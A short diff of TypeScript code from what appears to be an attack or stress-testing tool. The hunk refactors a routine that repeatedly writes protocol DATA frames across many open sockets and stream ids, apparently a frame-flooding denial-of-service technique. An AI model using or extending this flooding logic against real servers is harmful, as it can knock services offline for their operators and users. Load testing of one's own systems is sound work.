@@ -148,8 +148,8 @@ const attacks: Readonly<Record<string, (target: Target) => Promise<unknown>>> = 
     await delay(2_000);
     for (let round = 0; round < 3; round += 1) {
       for (const id of ids(100)) {
-        for (const socket of sockets)
-          if (!socket.destroyed) socket.write(frame(frameTypes.data, 0, id, chunk));
+        const bytes = frame(frameTypes.data, 0, id, chunk);
+        for (const socket of sockets.filter(({ destroyed }) => !destroyed)) socket.write(bytes);
         await delay(25);
       }
     }
